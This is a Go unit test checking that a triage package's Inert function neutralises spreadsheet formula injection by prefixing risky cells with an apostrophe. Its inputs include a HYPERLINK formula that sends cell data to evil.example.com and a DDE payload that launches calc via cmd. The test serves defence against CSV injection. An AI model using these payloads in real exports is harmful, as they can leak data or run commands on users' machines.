package triage_test

import (
	"testing"

	"toban/bot/triage"
)

// What a spreadsheet would run is text, and everything else stays as it is.
func TestCellsAreNoFormulas(t *testing.T) {
	for _, formula := range []string{
		`=HYPERLINK("https://evil.example.com/?"&A1,"see")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1",
		"＝1+1", "＋1", "－1", "＠SUM(A1)",
	} {
		if got := triage.Inert(formula); got != "'"+formula {
			t.Errorf("Inert(%q) = %q", formula, got)
		}
	}
	for _, text := range []string{"", "VPC につながりません", "a=b", "INQ-1", "12", "'quoted", "\xff", "ー"} {
		if got := triage.Inert(text); got != text {
			t.Errorf("Inert(%q) = %q, want it unchanged", text, got)
		}
	}
}
